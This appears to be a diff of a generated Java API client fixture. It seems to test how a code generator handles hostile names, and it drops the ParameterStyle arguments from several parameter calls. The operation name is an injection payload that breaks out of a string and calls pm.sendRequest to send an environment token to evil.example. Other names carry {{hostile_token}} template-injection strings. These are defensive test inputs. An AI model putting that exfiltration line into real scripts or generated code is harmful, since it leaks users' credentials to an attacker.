@@ -4,7 +4,6 @@ import com.example.api.model.PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenR
 import io.github.authdex.client.Answer;
 import io.github.authdex.client.ApiClient;
 import io.github.authdex.client.Call;
-import io.github.authdex.client.ParameterStyle;
 import io.github.authdex.client.Parameters;
 import java.io.IOException;
 import java.util.concurrent.CompletableFuture;
@@ -71,11 +70,11 @@ public final class ProtoApi {
     return client.call("'); pm.sendRequest('https://evil.example/' + pm.environment.get('token')); //", "POST", "/{{hostile_token}}/:colon/{a.b}/{x}:cancel/\u00fc", AcmeHostileSecurity.NEEDS_TOKEN, Answer.none())
         .with(new Parameters()
         .path("hostile_token", Parameters.required("hostile_token", hostileToken))
-        .path("a.b", Parameters.required("a.b", aB), ParameterStyle.FORM, true)
-        .path("x", Parameters.required("x", x), ParameterStyle.FORM, true)
+        .path("a.b", Parameters.required("a.b", aB))
+        .path("x", Parameters.required("x", x))
         .query("{{hostile_token}}&=#", Parameters.required("{{hostile_token}}&=#", hostileToken2))
-        .header("X-{{hostile_token}}", Parameters.required("X-{{hostile_token}}", xHostileToken), ParameterStyle.FORM, true)
-        .header("X-Fine", Parameters.required("X-Fine", xFine), ParameterStyle.FORM, true)
+        .header("X-{{hostile_token}}", Parameters.required("X-{{hostile_token}}", xHostileToken))
+        .header("X-Fine", Parameters.required("X-Fine", xFine))
         .cookie("{{hostile_token}}", Parameters.required("{{hostile_token}}", hostileToken3)))
         .json("application/json", Parameters.required("body", body));
   }
